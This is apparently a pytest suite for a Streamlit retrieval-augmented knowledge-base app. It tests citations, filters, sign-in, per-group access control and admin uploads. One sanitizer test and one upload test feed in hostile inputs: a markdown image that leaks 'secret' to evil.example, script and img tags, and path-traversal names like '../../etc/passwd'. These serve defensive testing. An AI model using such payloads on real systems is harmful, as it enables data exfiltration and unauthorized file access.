"""The Streamlit UI through Streamlit's AppTest: real app script, real embedded Qdrant, real
MiniLM, real manifest; answers from backend `none` or the loopback Ollama server.

One knowledge base is ingested per module (it takes seconds) and every test gets its own copy
of RAGKB_HOME, so uploads, forgets and audit records never leak between tests.
"""

from __future__ import annotations

import json
import re
import shutil
import sys
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from conftest import FIXTURES, REPO, make_bad_files
from ollama_server import OllamaServer
from ragkb.access import add_user
from ragkb.config import Settings
from ragkb.ingest import Ingestor

sys.path.insert(0, str(REPO / "ui"))
import kbui  # noqa: E402

APP = REPO / "ui" / "app.py"
TIMEOUT = 120  # the first run in a process loads MiniLM
BAD_COUNT = 9  # make_bad_files creates nine broken inputs
PARKING = "The staff car park closes at 22:00 on weekdays; visitors park on Elm Street."
PASSWORDS = {"alice": "alice-pw-1", "bob": "bob-pw-2", "root": "root-pw-3"}


# --- one knowledge base per module -------------------------------------------------------------
@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory, embedder) -> dict[str, Path]:
    """docs/ (the fixture documents; the memo readable by `finance` only, the email by `hr`
    only), docs/policies/parking.md, and bad/ (eight files ingest must reject)."""
    root = tmp_path_factory.mktemp("ui-kb")
    docs = root / "docs"
    shutil.copytree(FIXTURES / "docs", docs)
    for path in docs.iterdir():
        path.chmod(0o644)
    (docs / "fake-memo.pdf.acl").write_text("finance\n")
    (docs / "fake-email.eml.acl").write_text("hr\n")
    (docs / "policies").mkdir()
    (docs / "policies" / "parking.md").write_text(f"# Parking\n\n{PARKING}\n")
    bad = root / "bad"
    make_bad_files(bad)
    home = root / "home"
    ingestor = Ingestor(Settings(home=home, max_file_mb=1), embedder=embedder)
    try:
        report = ingestor.run([docs, bad])
    finally:
        ingestor.close()  # releases the embedded Qdrant folder for the app
    assert report.added == 7 and len(report.failed) == BAD_COUNT, report
    users = root / "users.toml"
    user_settings = Settings(home=home, users_file=users)
    add_user(user_settings, "alice", PASSWORDS["alice"], ["finance"])
    add_user(user_settings, "bob", PASSWORDS["bob"], ["hr"])
    add_user(user_settings, "root", PASSWORDS["root"], ["admin"])
    return {"docs": docs, "bad": bad, "home": home, "users": users}


@pytest.fixture
def home(base: dict[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """This test's own copy of the ingested RAGKB_HOME, configured through RAGKB_* variables."""
    target = tmp_path / "home"
    shutil.copytree(base["home"], target)
    monkeypatch.setenv("RAGKB_HOME", str(target))
    monkeypatch.setenv("RAGKB_LLM_BACKEND", "none")
    yield target
    st.cache_resource.clear()  # closes this test's shared Store (on_release)
    st.cache_data.clear()


def _app() -> AppTest:
    return AppTest.from_file(APP, default_timeout=TIMEOUT)


def _ok(at: AppTest) -> AppTest:
    assert not at.exception, [e.value for e in at.exception]
    return at


def _ask(at: AppTest, question: str) -> AppTest:
    at.chat_input[0].set_value(question)
    return _ok(at.run())


def _chip_map(pills: Any) -> dict[int, str]:
    """Citation chips of one answer: number -> label."""
    labels = list(pills.options)
    numbers = [int(re.match(r"\[(\d+)\]", label).group(1)) for label in labels]  # type: ignore[union-attr]
    return dict(zip(numbers, labels))


def _audit(home: Path) -> list[dict[str, Any]]:
    path = home / "audit.jsonl"
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


def _sign_in(at: AppTest, name: str, password: str) -> AppTest:
    at.text_input(key="login_user").input(name)
    at.text_input(key="login_password").input(password)
    at.button[0].click()
    return _ok(at.run())


# --- chat --------------------------------------------------------------------------------------
def test_streamed_answer_shows_citation_chips_and_the_cited_passage(home: Path, base: dict[str, Path], monkeypatch):
    def cite_the_memo(messages: list[dict[str, str]]) -> str:
        prompt = messages[-1]["content"]
        n = re.search(r"\[(\d+)\] \(fake-memo\.pdf", prompt).group(1)  # type: ignore[union-attr]
        return f"The memo is dated May 5, 2023 [{n}]. Nothing else is known [99]."

    with OllamaServer(cite_the_memo) as server:
        monkeypatch.setenv("RAGKB_LLM_BACKEND", "ollama")
        monkeypatch.setenv("RAGKB_OLLAMA_URL", server.url)
        at = _ok(_app().run())
        assert "ollama:llama3.2:3b" in " ".join(m.value for m in at.sidebar.markdown)
        assert len(at.chat_input) == 1 and not at.pills
        _ask(at, "When was the memo written?")
        assert len(server.requests_to("/api/chat")) == 1

    user, answer = at.chat_message
    assert user.name == "user" and answer.name == "assistant"
    text = answer.markdown[0].value
    assert "May 5, 2023" in text and "[99]" not in text
    # The invalid citation was removed, and that is said on screen.
    assert any("[99]" in w.value for w in answer.warning)
    chips = _chip_map(at.pills[0])
    assert len(chips) == 1
    (n, label), = chips.items()
    assert label == f"[{n}] fake-memo.pdf p.1" and f"[{n}]" in text
    assert re.search(r"Answered by `ollama:llama3.2:3b` · retrieve [\d,]+ ms .*· generate [\d,]+ ms · total [\d,]+ ms", answer.caption[-1].value)

    at.pills[0].set_value(n)
    _ok(at.run())
    preview = at.html[0].value
    assert "<mark" in preview and "May 5, 2023" in preview.split("<mark", 1)[1]
    assert any("fake-memo.pdf" in m.value and "page 1" in m.value for m in at.markdown)
    assert [b.label for b in at.download_button] == ["Download fake-memo.pdf"]

    (record,) = _audit(home)
    assert record["channel"] == "ui" and record["user"] == "anonymous" and record["question"] == "When was the memo written?"
    assert record["backend"] == "ollama:llama3.2:3b" and record["flagged"] is False
    assert str(base["docs"] / "fake-memo.pdf") in record["sources"] and len(record["doc_ids"]) == len(record["sources"])

    # The history stays: a second question adds to it, the first answer keeps its chip.
    with OllamaServer(lambda messages: "Nothing relevant.") as server:
        monkeypatch.setenv("RAGKB_OLLAMA_URL", server.url)
        _ask(at, "Is there a canteen?")
    assert [m.name for m in at.chat_message] == ["user", "assistant", "user", "assistant"]
    last = at.chat_message[3]
    assert any("cites none" in w.value for w in last.warning)  # flagged: shown, with the passages
    assert "not cited" in at.pills[-1].label
    assert _audit(home)[-1]["flagged"] is True


def test_document_type_and_folder_filters_change_what_is_cited(home: Path, base: dict[str, Path]):
    at = _ok(_app().run())
    at.sidebar.slider(key="top_k").set_value(10)
    _ask(at, "heading list email table slide memo")
    unfiltered = {Path(label.split(" ", 1)[1].split(" ")[0]).suffix for label in _chip_map(at.pills[-1]).values()}
    assert {".pdf", ".docx"} <= unfiltered and len(unfiltered) >= 3

    at.sidebar.multiselect(key="file_types").set_value(["pdf"])
    _ask(at, "heading list email table slide memo")
    labels = list(_chip_map(at.pills[-1]).values())
    assert labels and all(".pdf" in label for label in labels)

    at.sidebar.multiselect(key="file_types").set_value(["docx", "pptx"])
    _ask(at, "heading list email table slide memo")
    labels = list(_chip_map(at.pills[-1]).values())
    assert labels and all(".docx" in label or ".pptx" in label for label in labels)
    assert any(".pptx" in label for label in labels)

    folder = str(base["docs"] / "policies")
    assert folder in at.sidebar.selectbox(key="folder").options  # offered from the manifest
    at.sidebar.multiselect(key="file_types").set_value([])
    at.sidebar.selectbox(key="folder").set_value(folder)
    _ask(at, "heading list email table slide memo")
    assert [label.split(" ")[1] for label in _chip_map(at.pills[-1]).values()] == ["parking.md"]


def test_citation_of_a_deleted_file_has_no_download(home: Path, base: dict[str, Path], tmp_path: Path):
    """The preview still shows the passage; the download appears only for a file on disk."""
    moved = tmp_path / "parking.md"
    shutil.move(base["docs"] / "policies" / "parking.md", moved)
    try:
        at = _ok(_app().run())
        at.sidebar.selectbox(key="folder").set_value(str(base["docs"] / "policies"))
        _ask(at, "When does the car park close?")
        (n,) = _chip_map(at.pills[-1])
        at.pills[-1].set_value(n)
        _ok(at.run())
        assert "22:00" in at.html[0].value and not at.download_button
        assert any("no longer available" in c.value for c in at.caption)
    finally:
        shutil.move(moved, base["docs"] / "policies" / "parking.md")


def test_empty_knowledge_base_says_so(tmp_path: Path, monkeypatch):
    monkeypatch.setenv("RAGKB_HOME", str(tmp_path / "empty"))
    monkeypatch.setenv("RAGKB_LLM_BACKEND", "none")
    try:
        at = _ok(_app().run())
        assert "No documents are ingested yet" in at.info[0].value
        _ask(at, "Anything?")
        assert at.chat_message[1].markdown[0].value == "I don't know based on the available documents."
        assert not at.pills
    finally:
        st.cache_resource.clear()


def test_store_held_by_another_client_is_reported_not_crashed(home: Path):
    from ragkb.store import Store

    holder = Store(Settings(home=home))  # e.g. a `ragkb ingest` run holding the embedded Qdrant
    try:
        at = _ok(_app().run())
        _ask(at, "When was the memo written?")
        assert "open in another process" in at.chat_message[-1].error[0].value
        at.switch_page("admin.py")
        _ok(at.run())
        assert "Cannot open the knowledge base" in at.error[0].value
    finally:
        holder.close()
    at.switch_page("chat.py")
    _ask(_ok(at.run()), "When was the memo written?")  # the next question works
    assert at.pills and not at.chat_message[-1].error  # the failed one stays in the history


# --- sign-in and ACLs --------------------------------------------------------------------------
def test_login_required_when_users_are_configured(home: Path, base: dict[str, Path], monkeypatch):
    monkeypatch.setenv("RAGKB_USERS_FILE", str(base["users"]))
    at = _ok(_app().run())
    assert not at.chat_input and at.text_input(key="login_password").proto.type == 1  # password field

    _sign_in(at, "alice", "not-her-password")
    assert [e.value for e in at.error] == ["invalid user name or password"]
    assert not at.chat_input and "identity" not in at.session_state

    _sign_in(at, "nobody", PASSWORDS["alice"])
    assert [e.value for e in at.error] == ["invalid user name or password"]  # no user probing

    _sign_in(at, "alice", PASSWORDS["alice"])
    assert len(at.chat_input) == 1 and not at.error
    assert any("Signed in as **alice**" in m.value for m in at.sidebar.markdown)
    assert "login_password" not in at.session_state  # the password is not kept in the session


def test_users_only_ever_see_citations_they_may_read(home: Path, base: dict[str, Path], monkeypatch):
    monkeypatch.setenv("RAGKB_USERS_FILE", str(base["users"]))
    memo, email = str(base["docs"] / "fake-memo.pdf"), str(base["docs"] / "fake-email.eml")
    question = "test email roses violets memo May 5 2023"
    seen: dict[str, set[str]] = {}
    for user, hidden in (("alice", email), ("bob", memo)):
        at = _sign_in(_ok(_app().run()), user, PASSWORDS[user])
        at.sidebar.slider(key="top_k").set_value(20)  # more than the base holds: everything readable
        _ask(at, question)
        labels = " ".join(_chip_map(at.pills[-1]).values())
        seen[user] = {label for label in labels.split()}
        assert Path(hidden).name not in labels
        assert Path(hidden).name not in at.chat_message[-1].markdown[0].value
        record = _audit(home)[-1]
        assert record["user"] == user and hidden not in record["sources"]
    assert "fake-memo.pdf" in seen["alice"] and "fake-email.eml" in seen["bob"]
    # Neither may open the admin page: it is not even registered for them.
    with pytest.raises(ValueError):
        at.switch_page("admin.py")


def test_trusted_header_names_the_user(home: Path, base: dict[str, Path], monkeypatch):
    monkeypatch.setenv("RAGKB_USERS_FILE", str(base["users"]))
    monkeypatch.setenv("RAGKB_TRUSTED_USER_HEADER", "X-Remote-User")
    headers: dict[str, str] = {}
    monkeypatch.setattr(type(st.context), "headers", property(lambda self: headers))

    at = _ok(_app().run())
    assert not at.chat_input and "X-Remote-User" in at.error[0].value  # no header: no access

    headers["X-Remote-User"] = "mallory"
    at = _ok(_app().run())
    assert not at.chat_input and "mallory" in at.error[0].value  # unknown to the users file

    headers["X-Remote-User"] = "alice"
    at = _ok(_app().run())
    assert len(at.chat_input) == 1 and not at.text_input  # no password form in header mode
    _ask(at, "test email roses violets")
    assert "fake-email.eml" not in " ".join(_chip_map(at.pills[-1]).values())
    assert _audit(home)[-1]["user"] == "alice"


# --- admin -------------------------------------------------------------------------------------
def _admin(at: AppTest) -> AppTest:
    at.switch_page("admin.py")
    return _ok(at.run())


def test_admin_page_shows_status_and_failed_files_with_reasons(home: Path, base: dict[str, Path], monkeypatch):
    monkeypatch.setenv("RAGKB_USERS_FILE", str(base["users"]))
    at = _admin(_sign_in(_ok(_app().run()), "root", PASSWORDS["root"]))
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["Documents"] == "7" and metrics["Failed files"] == str(BAD_COUNT)
    assert int(metrics["Chunks"]) > 7 and metrics["Last ingest"] != "never"
    failed = at.dataframe[0].value
    rows = {Path(f).name: reason for f, reason in zip(failed["file"], failed["reason"])}
    expected = make_bad_files(home.parent / "again")  # the same names and expected reason words
    assert set(rows) == set(expected)
    for name, words in expected.items():
        assert words in rows[name], (name, rows[name])


def test_upload_ingests_and_forget_removes(home: Path, base: dict[str, Path]):
    at = _admin(_ok(_app().run()))  # anonymous mode: everyone is admin
    at.file_uploader(key="upload_files").set_value(
        ("../../Bicycle policy.md", b"# Bicycles\n\nBicycles are stored in the basement cage, code 4711.\n", "text/markdown")
    )
    at.text_input(key="upload_groups").input("")
    next(b for b in at.button if b.label == "Upload and ingest").click()
    _ok(at.run())
    saved = home / "uploads" / "Bicycle policy.md"  # the name is kept, the path is not
    assert saved.is_file()
    assert any("added 1" in s.value and "failed 0" in s.value for s in at.success)
    assert {m.label: m.value for m in at.metric}["Documents"] == "8"

    at.switch_page("chat.py")
    _ok(at.run())
    at.sidebar.multiselect(key="file_types").set_value(["md"])
    _ask(at, "Where are bicycles stored?")
    assert "Bicycle policy.md" in " ".join(_chip_map(at.pills[-1]).values())

    at = _admin(at)
    forget = at.selectbox(key="forget_path")
    forget.set_value(str(saved))
    next(b for b in at.button if b.label == "Forget").click()
    _ok(at.run())
    assert any("Forgot 1 file" in s.value for s in at.success)
    assert not saved.exists()  # the uploaded copy goes too
    assert {m.label: m.value for m in at.metric}["Documents"] == "7"
    assert str(saved) not in at.selectbox(key="forget_path").options

    at.switch_page("chat.py")
    _ok(at.run())
    _ask(at, "Where are bicycles stored?")
    assert "Bicycle policy.md" not in " ".join(_chip_map(at.pills[-1]).values())


def test_upload_with_groups_writes_an_acl(home: Path, base: dict[str, Path], monkeypatch):
    monkeypatch.setenv("RAGKB_USERS_FILE", str(base["users"]))
    at = _admin(_sign_in(_ok(_app().run()), "root", PASSWORDS["root"]))
    at.file_uploader(key="upload_files").set_value(("salaries.txt", b"The salary review happens every March.\n", "text/plain"))
    at.text_input(key="upload_groups").input("finance")
    next(b for b in at.button if b.label == "Upload and ingest").click()
    _ok(at.run())
    assert (home / "uploads" / "salaries.txt.acl").read_text().strip() == "finance"
    for user, visible in (("bob", False), ("alice", True)):
        chat = _sign_in(_ok(_app().run()), user, PASSWORDS[user])
        chat.sidebar.slider(key="top_k").set_value(20)
        _ask(chat, "When is the salary review?")
        assert ("salaries.txt" in " ".join(_chip_map(chat.pills[-1]).values())) is visible


def test_admin_page_is_hidden_from_non_admins(home: Path, base: dict[str, Path], monkeypatch):
    monkeypatch.setenv("RAGKB_USERS_FILE", str(base["users"]))
    at = _sign_in(_ok(_app().run()), "alice", PASSWORDS["alice"])
    with pytest.raises(ValueError):
        at.switch_page("admin.py")
    root = _admin(_sign_in(_ok(_app().run()), "root", PASSWORDS["root"]))
    assert [t.label for t in root.tabs] == ["Status", "Add documents", "Forget a document"]


# --- helpers and shipped configuration ---------------------------------------------------------
def test_untrusted_text_cannot_fetch_or_inject():
    assert kbui.safe_markdown("see ![x](http://evil.example/?q=secret) for $5 and $6") == (
        r"see !\[x](http://evil.example/?q=secret) for \$5 and \$6"
    )
    html = kbui.highlighted_html("<img src=http://evil.example/a.png>", "<script>1</script>", "")
    assert "<img" not in html and "<script" not in html and "&lt;img" in html
    assert kbui.safe_filename("../../etc/passwd") == "passwd"
    assert kbui.safe_filename("C:\\Users\\x\\report (v2).pdf") == "report (v2).pdf"
    with pytest.raises(ValueError):
        kbui.safe_filename("..")


def test_ages_read_like_a_person_would_say_them():
    assert [kbui.fmt_ago(1000 - d, now=1000) for d in (5, 120, 7200, 86400, 3 * 86400)] == [
        "just now", "2 min ago", "2 h ago", "1 day ago", "3 days ago"
    ]
    assert kbui.fmt_ago(None) == "—"


def test_passage_context_drops_the_chunk_overlap():
    before, after = kbui._strip_overlap("one two three four five", "four five six seven", "six seven eight nine")
    assert (before, after) == ("one two three", "eight nine")


def test_shipped_streamlit_config_is_private():
    root = (REPO / ".streamlit" / "config.toml").read_text()
    assert (REPO / "ui" / ".streamlit" / "config.toml").read_text() == root
    config = tomllib.loads(root)
    assert config["browser"]["gatherUsageStats"] is False
    assert config["client"]["showErrorLinks"] is False and config["client"]["toolbarMode"] == "viewer"
    assert config["server"]["enableXsrfProtection"] is True and config["server"]["enableStaticServing"] is False
    assert "://" not in json.dumps(config)  # no font, CDN or any other URL
